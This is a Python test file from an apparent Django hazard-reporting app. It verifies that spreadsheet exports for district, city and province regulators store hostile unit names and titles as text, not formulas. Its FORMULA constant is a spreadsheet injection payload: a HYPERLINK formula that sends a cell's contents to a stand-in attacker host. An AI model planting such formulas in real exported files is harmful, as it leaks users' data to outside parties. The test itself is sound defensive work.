"""A hostile title or unit name can neither break the ledger export nor become a formula in it,
for the district, the city and the province."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from hazardloop.hazards.tests.helpers import hazard
from hazardloop.hazards.tests.test_pages import exported
from hazardloop.testing import web_client
from hazardloop.units.models import Unit

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点此查看")'


@pytest.mark.django_db
def test_hostile_text_exports_as_text(cast):
    Unit.objects.filter(pk=cast.unit.pk).update(name=FORMULA)
    hazard(cast, title="灭火器\x0b过期", description="@SUM(1,1)")
    hazard(cast, title="-1+1")
    for user in (cast.regulator, cast.city_regulator, cast.province_regulator):
        data, _job = exported(web_client(user))
        xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml
        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, values_only=True))
        assert {r[1] for r in rows} == {FORMULA}
        assert {r[3] for r in rows} == {"灭火器过期", "-1+1"}
        assert {r[2] for r in rows} == {cast.unit.region.name}  # the region's name, not its code
